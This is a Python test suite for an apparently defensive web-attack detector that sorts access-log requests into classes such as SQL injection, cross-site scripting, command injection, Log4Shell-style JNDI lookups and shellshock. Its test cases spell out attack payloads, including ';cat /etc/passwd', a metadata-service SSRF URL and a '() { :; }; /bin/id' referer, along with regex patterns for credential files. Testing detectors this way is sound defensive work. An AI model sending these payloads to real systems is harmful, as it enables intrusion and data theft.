"""The classes' own samples, what a verdict says, and that the gate never holds back too little."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qingdun.detection.core.webattack.columns import scan_lines, scan_values
from qingdun.detection.core.webattack.judge import Request, judge, judge_value
from qingdun.detection.core.webattack.needs import needs
from qingdun.detection.core.webattack.signals import classes
from qingdun.lib.faults import BrokenContent

ATTACKS = [(key, sample) for key, kind in classes().items() for sample in kind.attacks]
HARMLESS = [(key, sample) for key, kind in classes().items() for sample in kind.harmless]
BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36"
)


def line(target: str, *, agent: str = BROWSER, referer: str = "-", method: str = "GET") -> str:
    return f'192.0.2.7 - - [10/Oct/2024:13:55:36 +0800] "{method} {target} HTTP/1.1" 200 512 "{referer}" "{agent}"'


@pytest.mark.parametrize(("key", "sample"), ATTACKS)
def test_every_attack_a_class_names_is_one(key: str, sample: str) -> None:
    verdict = judge_value(sample)
    seen = judge(Request(f"/x?{sample}")) if not verdict.is_attack or verdict.kind != key else verdict
    assert verdict.is_attack or seen.is_attack, sample
    assert scan_values([sample])[0].is_attack == verdict.is_attack


@pytest.mark.parametrize(("key", "sample"), HARMLESS)
def test_everything_a_class_calls_harmless_is(key: str, sample: str) -> None:
    assert not judge_value(sample).is_attack, (key, judge_value(sample))


def test_every_class_shows_an_attack_or_is_read_off_the_user_agent() -> None:
    for key, kind in classes().items():
        assert kind.attacks or all("user_agent" in one.where or "path" in one.where for one in kind.signals), key
        assert kind.harmless, key


@pytest.mark.parametrize(
    ("request_", "kind"),
    [
        (Request("/a?id=1%27%20union%20select%201,2--%20"), "sql_injection"),
        (Request("/a?q=%3Cscript%3Ealert(1)%3C/script%3E"), "cross_site_scripting"),
        (Request("/cgi?x=;cat%20/etc/passwd"), "command_injection"),
        (Request("/a?f=../../../../etc/hosts"), "path_traversal"),
        (Request("/.git/config"), "file_inclusion"),
        (Request("/a?u=http://169.254.169.254/latest/meta-data/"), "remote_inclusion"),
        (Request("/a?x=${jndi:ldap://192.0.2.1/a}"), "java_injection"),
        (Request("/index.php?s=/index/\\think\\app/invokefunction"), "php_injection"),
        (Request("/a?name={{7*7}}"), "template_injection"),
        (Request("/", user_agent="sqlmap/1.7"), "scanner"),
        (Request("/uploads/2024/a.php"), "web_shell"),
        (Request("/", referer="() { :; }; /bin/id"), "command_injection"),
    ],
)
def test_a_request_is_given_its_class(request_: Request, kind: str) -> None:
    verdict = judge(request_)
    assert (verdict.kind, verdict.score >= 5, bool(verdict.evidence)) == (kind, True, True)


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/zwgk/2024/t20240102_1234.html",
        "/static/js/app.12ab9f.js?v=3.2.1",
        "/api/v1/users?page=2&size=20&sort=name,asc",
        "/search?q=%E5%85%AC%E7%A7%AF%E9%87%91+%E6%8F%90%E5%8F%96&type=all",
        "/search?q=%B9%AB%BB%FD%BD%F0",
        "/login?redirect=https%3A%2F%2Fwww.example.gov.cn%2Findex.html",
        "/list?ids[]=1&ids[]=2&status=open",
        "/a?callback=jQuery3310123_1699999999&_=1699999999",
        "/profile/settings?tab=security",
        "/download?file=report-2024.pdf",
        "/wx?openid=oABC-123_xyz&timestamp=1699999999&nonce=12ab",
        "/a?date=2024-01-02%2012:30:45",
        "/map?bbox=113.1,23.2,113.9,23.8",
        "/a?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    ],
)
def test_everyday_requests_are_harmless(target: str) -> None:
    verdict = judge(Request(target, "GET", "https://www.example.gov.cn/", BROWSER))
    assert not verdict.is_attack, verdict
    assert not scan_lines([line(target)])[0].is_attack


@pytest.mark.parametrize("page", ["/index.html?news", "/list?id=5&to=%2Fa%3Fb", "/s?wd=%E5%85%AC&ie=utf-8", "/a#b"])
def test_so_are_the_pages_they_come_from(page: str) -> None:
    assert not scan_lines([line("/", referer=f"https://www.example.gov.cn{page}")])[0].is_attack


def test_a_session_handed_over_from_outside_counts_and_the_own_site_does_not() -> None:
    far = Request("/login?phpsessid=abc", referer="https://elsewhere.example/x")
    assert judge(far).is_attack
    assert not judge(Request(far.target, referer=far.referer, own_referer=True)).is_attack
    own = [line("/login?phpsessid=abc", referer="https://www.example.gov.cn/")] * 10
    assert not any(verdict.is_attack for verdict in scan_lines(own))


# --- the gate ---------------------------------------------------------------------------------------------------------

PIECES = st.sampled_from([sample for _key, sample in ATTACKS + HARMLESS] + ["id", "whoami", "..", "1=1", "a.bak", "/"])
MIXED = st.one_of(PIECES, st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=30), st.text(max_size=8))


@given(st.lists(st.tuples(MIXED, MIXED), max_size=4))
def test_the_gate_holds_back_whatever_the_judge_would_call_an_attack(pairs: list[tuple[str, str]]) -> None:
    values = [one for pair in pairs for one in pair]
    assert [verdict.is_attack for verdict in scan_values(values)] == [judge_value(one).is_attack for one in values]


@given(MIXED, MIXED, MIXED)
def test_the_same_for_whole_lines(path: str, value: str, agent: str) -> None:
    clean = [one.replace('"', "%22").replace("\n", "%0a").replace("\\", "%5c") for one in (path, value, agent)]
    target = f"/{clean[0]}?a={clean[1]}"
    read = scan_lines([line(target, agent=clean[2])])[0]
    assert read.is_attack == judge(Request(target, "GET", "", clean[2])).is_attack


@pytest.mark.parametrize(
    ("pattern", "sign", "space", "literals"),
    [
        (r"<script", True, False, {"<script"}),
        (r"\bunion (?:all )?select\b", False, True, {"union "}),
        (r"(?:etc|proc)/+(?:passwd|shadow)", False, False, {"passwd", "shadow"}),
        (r"a?b?", False, False, set()),
        (r"(?:;|\|) ?\w", True, False, set()),
        (r"\d+", False, False, set()),
    ],
)
def test_what_a_pattern_needs_is_read_off_it(pattern: str, sign: bool, space: bool, literals: set[str]) -> None:
    found = needs(pattern)
    assert (found.sign, found.space, set(found.literals)) == (sign, space, literals)


def test_a_line_that_is_no_access_log_is_judged_as_a_value() -> None:
    assert [verdict.kind for verdict in scan_lines(["hello", "1' or '1'='1", ""])] == ["", "sql_injection", ""]


def test_a_citys_class_with_a_bad_expression_is_refused_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "detection" / "webattacks"
    folder.mkdir(parents=True)
    (folder / "ours.yaml").write_text(
        "name: 本市\nenglish: Ours\ntechnique: T1190\nsignals:\n  - {id: a, form: plain, score: 5, pattern: '(?=x)'}\n"
        "samples: {attacks: [], harmless: [x]}\n",
        "utf-8",
    )
    monkeypatch.setenv("QINGDUN_CONTENT", str(tmp_path))
    with pytest.raises(BrokenContent, match="特征 a"):
        classes.__wrapped__()
